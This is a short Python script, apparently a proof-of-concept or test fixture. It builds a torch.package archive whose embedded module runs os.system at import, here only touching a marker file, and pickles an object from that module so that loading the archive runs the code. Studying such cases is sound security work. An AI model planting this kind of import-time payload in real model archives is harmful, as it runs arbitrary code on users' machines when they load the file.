# torch.package archive: a module's source runs os.system at import; the pickle only names a class in it
import os, sys, torch
from torch.package import PackageExporter
here = os.path.dirname(os.path.abspath(__file__))
src = '''
import os
os.system("touch /tmp/review39b/pwned_package")
class Cfg(dict):
    pass
'''
with PackageExporter(os.path.join(here, "pkg.pt")) as pe:
    pe.save_source_string("cfgmod", src)
    pe.intern("cfgmod")
    ns = {}
    exec("", ns)
    import importlib, types
    m = types.ModuleType("cfgmod"); exec(src.replace('os.system', 'print'), m.__dict__); sys.modules["cfgmod"] = m
    pe.save_pickle("res", "obj.pkl", m.Cfg(a=1))
